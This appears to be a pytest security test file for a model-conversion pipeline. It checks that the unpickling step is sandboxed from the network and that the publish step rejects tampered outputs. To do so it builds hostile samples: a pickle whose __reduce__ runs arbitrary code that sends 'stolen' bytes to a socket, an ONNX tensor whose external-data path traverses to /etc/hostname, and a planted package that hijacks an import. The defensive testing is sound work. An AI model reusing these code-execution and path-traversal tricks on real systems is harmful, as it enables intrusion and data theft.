"""Issue 32 #1, #2: the conversion's steps as processes. The step that unpickles has no network
(a seccomp filter it installs on itself, tried against a real listening socket), and the step that
writes the store never trusts what it wrote: regular files only, bounded, a real ONNX model without
external data, digests and input signature computed again."""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import onnx
import pytest
from serin.converters.errors import ConversionError
from serin.converters.job import REQUEST_ENV
from serin.converters.publish import SampleSource, publish

ENV = {**os.environ, "OMP_NUM_THREADS": "1", "PYTHONWARNINGS": "ignore"}


class _Runs:
    """Pickled, runs `code` when loaded: what a hostile artifact does."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (self.code, {}))


def hostile(path: Path, code: str) -> Path:
    path.write_bytes(pickle.dumps(_Runs(code), protocol=4))
    return path


def run(args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, *args], capture_output=True, text=True, timeout=300, env=env, check=False)


def job_env(source: Path, sample: Path, out: Path, term: Path, work: Path | None = None) -> dict[str, str]:
    doc = {"source": {"uri": str(source), "sampleUri": str(sample)}, "out": str(out)}
    env = {**ENV, REQUEST_ENV: json.dumps(doc), "SERIN_TERMINATION_LOG": str(term)}
    if work is not None:
        env["SERIN_WORK_DIR"] = str(work)
    return env


@pytest.fixture
def listener() -> Any:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    yield server
    server.close()


def connections(server: socket.socket) -> int:
    n = 0
    while True:
        try:
            conn, _ = server.accept()
        except (TimeoutError, BlockingIOError):
            return n
        conn.close()
        n += 1


def test_the_unpickling_step_opens_no_network_socket(logreg: tuple[Path, Path], tmp_path: Path,
                                                     listener: socket.socket) -> None:
    port = listener.getsockname()[1]
    code = (f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
            "s.sendall(b'stolen')\n")
    artifact = hostile(tmp_path / "m.pkl", code)
    # The control: loaded without the sandbox, the same pickle reaches the listener.
    loaded = run(["-c", f"import pickle; pickle.load(open({str(artifact)!r}, 'rb'))"], ENV)
    assert loaded.returncode == 0, loaded.stderr
    assert connections(listener) == 1
    out, term = tmp_path / "out", tmp_path / "term"
    proc = run(["-m", "serin.converters.job"], job_env(artifact, logreg[1], out, term))
    assert proc.returncode == 2, proc.stderr
    assert connections(listener) == 0
    summary = json.loads(term.read_text())
    assert summary["passed"] is False and "PermissionError" in summary["reason"], summary


def test_no_thread_child_or_other_address_family_gets_the_network(logreg: tuple[Path, Path], tmp_path: Path,
                                                                  listener: socket.socket) -> None:
    port = listener.getsockname()[1]
    code = f"""
import socket, subprocess, sys, threading
tried = []
def attempt(what, fn):
    try:
        fn()
        tried.append(what + "=OPEN")
    except OSError as exc:
        tried.append(what + "=" + str(exc.errno))
attempt("ipv4", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2))
attempt("ipv6", lambda: socket.socket(socket.AF_INET6))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
t = threading.Thread(target=attempt, args=("thread", lambda: socket.create_connection(("127.0.0.1", {port}))))
t.start(); t.join()
child = subprocess.run([sys.executable, "-c", "import socket; socket.create_connection(('127.0.0.1', {port}))"],
                       capture_output=True)
tried.append("child=" + ("OPEN" if child.returncode == 0 else "refused"))
socket.socketpair()  # local IPC stays possible (multiprocessing, joblib)
tried.append("unix=ok")
raise ValueError("probe " + " ".join(tried))
"""
    out, term = tmp_path / "out", tmp_path / "term"
    proc = run(["-m", "serin.converters.job"], job_env(hostile(tmp_path / "m.pkl", code), logreg[1], out, term))
    assert proc.returncode == 2, proc.stderr
    reason = json.loads(term.read_text())["reason"]
    # 13: EACCES, from the filter
    assert "probe ipv4=13 ipv6=13 netlink=13 packet=13 thread=13 child=refused unix=ok" in reason, reason
    assert connections(listener) == 0


def test_the_three_steps_hand_over_through_the_work_directory(logreg: tuple[Path, Path], tmp_path: Path) -> None:
    """As the Job runs them: fetch, convert, publish, each its own process; only publish writes `out`."""
    work, out = tmp_path / "work", tmp_path / "store" / "fraud-g1"
    terms = {step: tmp_path / f"term-{step}" for step in ("fetch", "convert", "publish")}
    for step, term in terms.items():
        proc = run(["-m", "serin.converters.job", step], job_env(logreg[0], logreg[1], out, term, work))
        assert proc.returncode == 0, (step, proc.stderr)
        if step != "publish":
            assert not out.exists(), f"{step} wrote the store"
    assert sorted(p.name for p in (work / "input").iterdir()) == ["artifact", "sample"]
    summary = json.loads(terms["publish"].read_text())
    model_bytes = (out / "model.onnx").read_bytes()
    assert summary["passed"] is True and summary["onnxSha256"] == hashlib.sha256(model_bytes).hexdigest()
    assert summary["sha256"] == hashlib.sha256(logreg[0].read_bytes()).hexdigest()
    assert json.loads((out / "report.json").read_text())["passed"] is True
    assert (out / "profile.json").exists()


def scratch(tmp_path: Path, logreg: tuple[Path, Path]) -> Path:
    """What an honest convert step leaves: a passing conversion's three files."""
    out = tmp_path / "scratch"
    proc = run(["-m", "serin.converters.cli", str(logreg[0]), "--sample", str(logreg[1]), "--out", str(out), "-q"],
               ENV)
    assert proc.returncode == 0, proc.stderr
    return out


def test_publish_computes_what_the_gates_trust_itself(logreg: tuple[Path, Path], tmp_path: Path) -> None:
    src = scratch(tmp_path, logreg)
    rep = json.loads((src / "report.json").read_text())
    rep["sha256"]["onnx"], rep["inputs"] = "0" * 64, "anything:float[1]"
    (src / "report.json").write_text(json.dumps(rep))
    dst = tmp_path / "dst"
    published = publish(src, dst, logreg[0], SampleSource(logreg[1]))
    assert published["sha256"]["onnx"] == hashlib.sha256((dst / "model.onnx").read_bytes()).hexdigest()
    (only,) = onnx.load(dst / "model.onnx").graph.input
    assert published["inputs"].startswith(f"{only.name}:float[")
    assert json.loads((dst / "report.json").read_text()) == published


def external_data(src: Path) -> None:
    """A tensor whose bytes the runtime would read from another file (here, one outside the model's
    directory)."""
    from onnx.external_data_helper import set_external_data

    model = onnx.load(src / "model.onnx")
    tensor = onnx.helper.make_tensor("stolen", onnx.TensorProto.FLOAT, [1], b"\0\0\0\0", raw=True)
    set_external_data(tensor, location="../../etc/hostname")
    tensor.ClearField("raw_data")
    tensor.data_location = onnx.TensorProto.EXTERNAL
    model.graph.initializer.append(tensor)
    (src / "model.onnx").write_bytes(model.SerializeToString())


@pytest.mark.parametrize(("spoil", "message"), [
    pytest.param(lambda s: ((s / "model.onnx").unlink(), (s / "model.onnx").symlink_to("/etc/hostname")),
                 "cannot be read as a file", id="model-a-symlink"),
    pytest.param(lambda s: (s / "model.onnx").write_bytes(b"\x08\x07garbage" * 10), "is not an ONNX model",
                 id="model-not-onnx"),
    pytest.param(external_data, "refers to external data", id="model-with-external-data"),
    pytest.param(lambda s: ((s / "profile.json").unlink(), os.mkfifo(s / "profile.json")),
                 "is not a regular file", id="profile-a-fifo"),
    pytest.param(lambda s: (s / "profile.json").write_text("[1, 2]"), "profile is not a JSON object",
                 id="profile-not-an-object"),
    pytest.param(lambda s: (s / "report.json").write_bytes(b" " * (5 << 20)), "larger than", id="report-too-large"),
    pytest.param(lambda s: (s / "model.onnx").unlink(), "wrote no model", id="model-missing"),
])
def test_publish_refuses_what_it_cannot_trust(logreg: tuple[Path, Path], tmp_path: Path, spoil: Any,
                                              message: str) -> None:
    src = scratch(tmp_path, logreg)
    spoil(src)
    dst = tmp_path / "dst"
    with pytest.raises(ConversionError, match=message):
        publish(src, dst, logreg[0], SampleSource(logreg[1]))
    assert not dst.exists() or not any(dst.iterdir()), "nothing may be written"


# -- #7: the gate inputs (profile.json) are computed by publish, not by the step that unpickled ---

@pytest.fixture(scope="module")
def labelled(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    """A classifier whose sample carries its true labels (column y), so the profile holds a
    reference accuracy and calibration knots; and the honest convert step's scratch for it."""
    import joblib
    import numpy as np
    import pandas as pd
    from sklearn.ensemble import RandomForestClassifier

    d = tmp_path_factory.mktemp("labelled")
    rng = np.random.default_rng(7)
    x = pd.DataFrame(rng.normal(size=(600, 4)), columns=["age", "income", "debt", "tenure"])
    y = ((x["age"] + 0.5 * x["income"] + rng.normal(scale=0.8, size=600)) > 0).astype(int)
    model = RandomForestClassifier(n_estimators=20, max_depth=4, random_state=0).fit(x, y)
    artifact, sample = d / "rf.joblib", d / "sample.csv"
    joblib.dump(model, artifact)
    x.assign(y=y).to_csv(sample, index=False)
    out = d / "scratch"
    proc = run(["-m", "serin.converters.cli", str(artifact), "--sample", str(sample), "--sample-labels", "y",
                "--out", str(out), "-q"], ENV)
    assert proc.returncode == 0, proc.stderr
    assert "calibration" in json.loads((out / "profile.json").read_text())["prediction"]["performance"]
    return artifact, sample, out


def copy_of(scratch_dir: Path, tmp_path: Path) -> Path:
    import shutil

    return Path(shutil.copytree(scratch_dir, tmp_path / "scratch"))


def lie(src: Path, change: Any) -> None:
    profile = json.loads((src / "profile.json").read_text())
    change(profile)
    (src / "profile.json").write_text(json.dumps(profile))


def flat_reference(p: dict[str, Any]) -> None:
    """A drift reference that hides drift: every feature one bin holding everything, the
    prediction shares whatever live traffic will show."""
    for f in p["features"]:
        f.update(cuts=[], proportions=[1.0])
    p["prediction"]["proportions"] = [0.5, 0.5]


@pytest.mark.parametrize("change", [
    pytest.param(lambda p: p["prediction"]["performance"].update(
        calibration={"confidence": [0.0, 1.0], "accuracy": [1.0, 1.0]}), id="calibration-always-right"),
    pytest.param(lambda p: p["prediction"]["performance"].update(accuracy=1.0, confidence=1.0), id="reference-accuracy"),
    pytest.param(flat_reference, id="flat-drift-reference"),
    pytest.param(lambda p: p.update(batching={"rowsIndependent": True, "rows": 64, "maxAbsDiff": 0.0}),
                 id="batching-claim"),
])
def test_publish_computes_the_profile_the_gates_trust(labelled: tuple[Path, Path, Path], tmp_path: Path,
                                                      change: Any) -> None:
    """Whatever the candidate writes into its profile's numbers, the published profile is the
    one computed from the sample and the ONNX model: byte for byte an honest conversion's."""
    artifact, sample, honest = labelled
    src = copy_of(honest, tmp_path)
    lie(src, change)
    assert (src / "profile.json").read_bytes() != (honest / "profile.json").read_bytes()
    publish(src, tmp_path / "dst", artifact, SampleSource(sample, labels="y"))
    assert (tmp_path / "dst" / "profile.json").read_bytes() == (honest / "profile.json").read_bytes()


def test_publish_states_the_task_the_model_has(labelled: tuple[Path, Path, Path], tmp_path: Path) -> None:
    """The operator picks the prediction-shift query by the report's task: publish's, not the claim."""
    artifact, sample, honest = labelled
    src = copy_of(honest, tmp_path)
    rep = json.loads((src / "report.json").read_text())
    (src / "report.json").write_text(json.dumps({**rep, "task": "regression"}))
    assert publish(src, tmp_path / "dst", artifact, SampleSource(sample, labels="y"))["task"] == "classification"


def swap_columns(p: dict[str, Any]) -> None:
    p["features"][0]["column"], p["features"][1]["column"] = 1, 1


@pytest.mark.parametrize(("change", "message"), [
    pytest.param(lambda p: p["features"][0].update(name="salary"), "one the sample does not have",
                 id="a-column-the-sample-lacks"),
    pytest.param(lambda p: p["features"].pop(), "does not map every column", id="an-input-column-unmapped"),
    pytest.param(swap_columns, "mapped twice", id="a-column-mapped-twice"),
    pytest.param(lambda p: p["features"][0].update(input="other"), "does not have", id="an-input-the-model-lacks"),
    pytest.param(lambda p: p["features"][1].update(name=p["features"][0]["name"]), "maps a sample column twice",
                 id="a-sample-column-used-twice"),
    pytest.param(lambda p: p["prediction"].update(classes=["1"]), "miss a class the model predicts",
                 id="classes-missing-one"),
    pytest.param(lambda p: p["prediction"].update(kind="ranking"), "neither classification nor regression",
                 id="unknown-task"),
    pytest.param(lambda p: p["prediction"].update(kind="regression"), "one number per row", id="wrong-task"),
    pytest.param(lambda p: p.pop("features"), "no features list", id="no-features"),
    pytest.param(lambda p: p["prediction"].update(classes=["0", "1", "phantom"]), "3 classes for 2 probability",
                 id="a-phantom-class"),
])
def test_publish_refuses_a_profile_whose_claims_do_not_hold(labelled: tuple[Path, Path, Path], tmp_path: Path,
                                                            change: Any, message: str) -> None:
    artifact, sample, honest = labelled
    src = copy_of(honest, tmp_path)
    lie(src, change)
    dst = tmp_path / "dst"
    with pytest.raises(ConversionError, match=message):
        publish(src, dst, artifact, SampleSource(sample, labels="y"))
    assert not dst.exists() or not any(dst.iterdir()), "nothing may be written"


def test_what_the_untrusted_step_leaves_in_a_working_directory_is_never_imported(tmp_path: Path) -> None:
    """Found by review: were the steps' /tmp shared and their working directory, `python -m`
    would put it first on sys.path, and a package the artifact's code wrote there would run in
    the trusted publish step. The Job runs every step as `python -P -m` from `/` (and convert
    gets a /tmp of its own): here the same command, from a directory holding such a package."""
    planted = tmp_path / "serin" / "converters"
    planted.mkdir(parents=True)
    (tmp_path / "serin" / "__init__.py").write_text("")
    (planted / "__init__.py").write_text("")
    (planted / "job.py").write_text("print('HIJACKED')\n")
    env = {k: v for k, v in ENV.items() if k not in ("PYTHONPATH", "PYTHONSAFEPATH")}
    without = subprocess.run([sys.executable, "-m", "serin.converters.job", "publish"], cwd=tmp_path, env=env,
                             capture_output=True, text=True, timeout=120, check=False)
    assert "HIJACKED" in without.stdout, "control: without -P the planted package runs"
    safe = subprocess.run([sys.executable, "-P", "-m", "serin.converters.job", "publish"], cwd=tmp_path, env=env,
                          capture_output=True, text=True, timeout=120, check=False)
    assert "HIJACKED" not in safe.stdout and safe.returncode != 0  # the real step: no request, refused
